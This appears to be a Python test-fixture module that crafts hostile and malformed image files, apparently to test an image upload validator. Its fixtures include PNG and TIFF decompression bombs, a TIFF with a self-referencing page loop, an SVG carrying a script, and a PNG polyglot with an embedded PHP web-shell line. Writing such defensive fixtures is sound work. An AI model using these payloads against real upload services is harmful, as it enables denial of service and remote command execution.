"""Image files as an attacker or a careless export would make them, as bytes."""

from __future__ import annotations

import io
import struct
import zlib

import numpy as np
import tifffile
from PIL import Image

PNG_MAGIC = b"\x89PNG\r\n\x1a\n"


def png_of(*chunks: tuple[bytes, bytes]) -> bytes:
    """A PNG of hand-made chunks with right check sums."""
    return PNG_MAGIC + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in (*chunks, (b"IEND", b""))
    )


def header_of(width: int, height: int) -> tuple[bytes, bytes]:
    return b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)


def saved(pixels: np.ndarray, kind: str, mode: str | None = None) -> bytes:
    out = io.BytesIO()
    Image.fromarray(pixels, mode).save(out, kind)
    return out.getvalue()


def tiff(pixels: np.ndarray, **options: object) -> bytes:
    out = io.BytesIO()
    tifffile.imwrite(out, pixels, photometric="minisblack", **options)
    return out.getvalue()


def _zeros(megabytes: int) -> bytes:
    """What zlib makes of so many million zeros, without packing them: every million packs alike."""
    packer = zlib.compressobj(9, wbits=-15)
    million = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = (megabytes * 1_000_000 % 65_521) << 16 | 1  # Adler-32 of zeros
    return b"\x78\xda" + million * megabytes + b"\x03\x00" + struct.pack(">I", checksum)


NOISE = np.random.default_rng(0).integers(1, 200, (16, 16, 3), dtype=np.uint8)
BANDS = np.random.default_rng(1).integers(1, 200, (12, 16, 16), dtype=np.uint8)
GOOD_PNG = saved(NOISE, "PNG")
GOOD_TIFF = tiff(BANDS)
HEADER_BOMB = png_of(header_of(60_000, 60_000), (b"IDAT", zlib.compress(bytes(100))))
# 16 x 16 pixels declared, 200 MB of zeros behind it
DATA_BOMB = png_of(header_of(16, 16), (b"IDAT", _zeros(200)))
TEXT_BOMB = png_of(
    header_of(16, 16),
    (b"zTXt", b"Comment\0\0" + _zeros(200)),
    (b"IDAT", zlib.compress(bytes(16 * 49))),
)
NO_PIXELS = png_of(header_of(0, 16), (b"IDAT", zlib.compress(b"")))


def tiff_bomb() -> bytes:
    """A deflated TIFF of 16 x 16 x 3 whose one strip unpacks to 200 MB."""
    raw = bytearray(tiff(NOISE, compression="zlib"))
    with tifffile.TiffFile(io.BytesIO(raw)) as file:
        page = file.pages[0]
        tags = page.tags
        strip = _zeros(200)
        at = len(raw)
        _put(raw, tags["StripOffsets"].valueoffset, at)
        _put(raw, tags["StripByteCounts"].valueoffset, len(strip))
    return bytes(raw) + strip


def tiff_loop() -> bytes:
    """A TIFF whose second page is its first one, for ever."""
    raw = bytearray(tiff(NOISE))
    with tifffile.TiffFile(io.BytesIO(raw)) as file:
        first = file.pages[0].offset
        count = struct.unpack("<H", raw[first : first + 2])[0]
    _put(raw, first + 2 + 12 * count, first)
    return bytes(raw)


def _put(raw: bytearray, at: int, value: int) -> None:
    raw[at : at + 4] = struct.pack("<I", value)


def animated() -> bytes:
    out = io.BytesIO()
    frames = [Image.fromarray(NOISE), Image.fromarray(255 - NOISE)]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


CMYK = saved(np.full((16, 16, 4), 90, np.uint8), "JPEG", "CMYK")
SIXTEEN_BIT = saved(np.arange(256, dtype=np.uint16).reshape(16, 16) * 200, "PNG")
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
POLYGLOT = GOOD_PNG + b"PK\x03\x04<?php system($_GET['c']); ?>"
